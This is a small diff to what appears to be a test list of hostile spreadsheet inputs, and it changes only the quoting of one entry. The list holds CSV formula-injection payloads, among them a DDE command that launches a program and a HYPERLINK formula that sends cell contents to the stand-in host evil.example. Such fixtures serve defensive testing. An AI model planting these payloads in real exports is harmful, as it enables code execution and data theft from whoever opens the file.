@@ -21,7 +21,7 @@ HOSTILE = [
     "Anna\n=cmd|' /C calc'!A0",
     "Anna\r\n@SUM(1+1)",
     'Anna",=HYPERLINK("https://evil.example")',
-    "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"x\")",
+    '=HYPERLINK("https://evil.example/?leak="&A1,"x")',
     "+1+1",
     "-2+3",
     "@SUM(A1)",
